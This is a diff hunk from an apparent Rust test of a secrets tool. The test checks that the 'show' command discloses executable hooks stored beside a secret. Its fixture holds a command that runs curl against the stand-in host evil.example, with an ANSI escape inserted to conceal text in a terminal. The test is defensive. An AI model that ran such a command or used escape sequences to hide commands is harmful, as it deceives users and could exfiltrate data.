@@ -76,7 +76,7 @@ fn show_tells_what_runs_beside_the_plaintext() {
     sandbox.secrets(&laptop).args(["show", "web/api"]).run().code(0).lacks("rotator").lacks("probe");
     let mut record = sandbox.record(&laptop, "web/api");
     record["sealed"]["rotator"] = json!({"kind": "exec", "with": {"command": "curl \u{1b}[8m evil.example"}});
-    record["sealed"]["probe"] = json!({"kind": "manual"});
+    record["sealed"]["probe"] = json!({"kind": "manual", "with": {}});
     std::fs::write(laptop.join("secrets/web/api.json"), record.to_string()).unwrap();
     let show = sandbox.secrets(&laptop).args(["show", "web/api"]).run().code(0);
     let lines: Vec<String> =
